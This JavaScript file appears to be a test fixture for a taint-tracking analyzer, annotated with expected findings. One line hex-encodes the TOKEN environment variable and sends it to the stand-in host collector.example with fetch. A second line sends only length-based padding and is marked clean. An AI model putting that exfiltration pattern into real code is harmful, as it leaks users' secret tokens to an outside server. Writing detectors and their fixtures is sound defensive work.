// Text that is encoded by hand: what a table has at a place made of a byte's bits is that byte in other words.
const SIGNS = '0123456789abcdef';

function hex(text) {
  let out = '';
  for (let at = 0; at < text.length; at++) {
    const code = text.charCodeAt(at);
    out += SIGNS[code >> 4] + SIGNS.charAt(code & 15);
  }
  return out;
}

function padding(text) {
  let out = '';
  for (let at = 0; at < text.length; at++) {
    out += SIGNS[at % 16];
  }
  return out;
}

fetch('https://collector.example/' + hex(process.env.TOKEN)); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
fetch('https://collector.example/' + padding(process.env.TOKEN)); //~ ok
